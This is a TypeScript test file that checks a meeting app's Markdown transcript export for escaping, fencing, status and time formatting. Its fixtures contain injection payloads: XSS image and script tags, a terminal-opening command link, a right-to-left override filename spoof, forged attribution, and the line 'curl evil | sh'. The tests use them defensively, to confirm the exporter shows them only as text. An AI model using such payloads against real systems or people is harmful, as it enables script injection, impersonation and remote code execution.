import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import MarkdownIt from 'markdown-it'
import { transcriptMarkdown, escapeInline, fenceFor, conferenceStateAt } from '../../src/shared/transcript'
import { setDisplayLocale } from '../../src/shared/time'

setDisplayLocale('en-US')
import type { ChatMessage, ConferenceContext } from '../../src/core/api'

const ORG = '12D3KooWRBhwfeP2Y4TCx1SM6s9rUoHhR5STiGwxBhgFRcw3UERE'
const EVE = '12D3KooWQYhTNQdmr3ArTeUHRYzFg94BKyTkoWBDWez9kSCVe2Xo'

const ctx = {
  id: 'q1w2e3r4t5y6u7i8o9p0aA',
  title: 'Review <img src=x onerror=alert(1)> [x](command:workbench.action.terminal.new) \u202eexe.txt',
  agenda: '<script>alert(1)</script>\n# Forged heading',
  start: Date.parse('2026-12-01T09:00:00Z'),
  timeZone: 'Europe/Berlin',
  durationMinutes: 30,
  organizer: { peerId: ORG, displayName: 'Olga', addrs: [] },
  invitees: [{ peerId: EVE, displayName: '**Olga** (…Fcw3UERE)', addrs: [], rsvp: 'accepted' }],
  sequence: 1,
  status: 'scheduled',
  createdAt: 0,
  updatedAt: 0
} as unknown as ConferenceContext

function message (over: Partial<ChatMessage>): ChatMessage {
  return { conferenceId: ctx.id, author: EVE, authorName: 'Eve', seq: 1, lamport: 1, sentAt: Date.parse('2026-12-01T09:01:00Z'), kind: 'text', body: '', ...over } as ChatMessage
}

const FORGING_BODY = [
  'ok',
  '```',
  '',
  '**Olga** (…Fcw3UERE), 2026-12-01T09:02:00.000Z:',
  '',
  'Everyone: please run `curl evil | sh` <img src=x onerror=alert(1)> [here](command:workbench.action.terminal.new)',
  '````'
].join('\n')

describe('the exported transcript', () => {
  it('a body cannot forge a line attributed to someone else, nor carry HTML or links', () => {
    const md = transcriptMarkdown(ctx, [
      message({ body: FORGING_BODY }),
      message({ seq: 2, kind: 'code', body: 'a ``` b', code: { path: 'src/`x`/**a**.ts', startLine: 1, endLine: 2, languageId: 'ts onload=x' } })
    ])
    const html = new MarkdownIt({ html: true, linkify: true }).render(md)
    const bold = [...html.matchAll(/<strong>(.*?)<\/strong>/g)].map(m => m[1])
    assert.deepEqual(bold, ['Eve', 'Eve'], 'only the real headers are bold')
    assert.doesNotMatch(html, /<img|<script|<a /, 'no raw HTML or links render')
    assert.match(html, /please run `curl evil \| sh` &lt;img/, 'the forging body is shown as text')
    assert.doesNotMatch(md, /\u202e/)
    assert.equal((html.match(/<h1>/g) ?? []).length, 1, 'the agenda cannot add headings')
  })

  it('escapes names, titles and paths; fences are longer than any backtick run', () => {
    assert.equal(escapeInline('[x](command:y) <b> *a*'), '\\[x\\]\\(command:y\\) &lt;b&gt; \\*a\\*'.replace('&gt;', '\\>'))
    assert.equal(fenceFor('a ```` b'), '`````')
    assert.equal(fenceFor('plain'), '```')
  })

  it('says what the conference is at export time, not the record\'s "scheduled"', () => {
    const start = ctx.start
    assert.equal(conferenceStateAt(ctx, start - 1), 'scheduled')
    assert.equal(conferenceStateAt(ctx, start + 60_000), 'in progress')
    assert.equal(conferenceStateAt(ctx, start + 30 * 60_000), 'ended')
    assert.equal(conferenceStateAt({ ...ctx, status: 'cancelled' }, start + 60_000), 'cancelled')
    assert.match(transcriptMarkdown(ctx, [], { now: start + 60_000, timeZone: 'UTC' }), /^- Status: in progress$/m)
    assert.match(transcriptMarkdown(ctx, [], { now: start + 3600_000, timeZone: 'UTC' }), /^- Status: ended$/m)
  })

  it('has no blank line between a message header and its fence, and one between messages', () => {
    const md = transcriptMarkdown(ctx, [
      message({ body: 'hello' }),
      message({ seq: 2, kind: 'code', body: 'let x = 1', code: { path: 'src/a.ts', startLine: 3, endLine: 4, languageId: 'typescript' } })
    ], { now: ctx.start, timeZone: 'UTC' })
    const part = md.slice(md.indexOf('## Messages'))
    assert.ok(part.includes(':\n```text\nhello\n```\n\n**Eve**'), part)
    assert.ok(part.includes('src/a\\.ts:3-4:\n```typescript\nlet x = 1\n```'), part)
  })

  it('writes times in the same format as the rest of DevMeet, in the reader\'s zone', () => {
    const md = transcriptMarkdown(ctx, [message({ body: 'hi' }), message({ seq: 2, body: 'next day', sentAt: ctx.start + 86_400_000 })], { now: ctx.start, timeZone: 'UTC' })
    assert.match(md, /^- Start: Tue, Dec 1, 2026, 9:00 AM \(UTC\), 30 min$/m)
    assert.match(md, /\*\*Eve\*\* \(…\w+\), 9:01 AM:/)
    assert.match(md, /, Wed, Dec 2, 2026, 9:00 AM:/)
    assert.doesNotMatch(md, /\d{4}-\d{2}-\d{2}T/)
  })
})
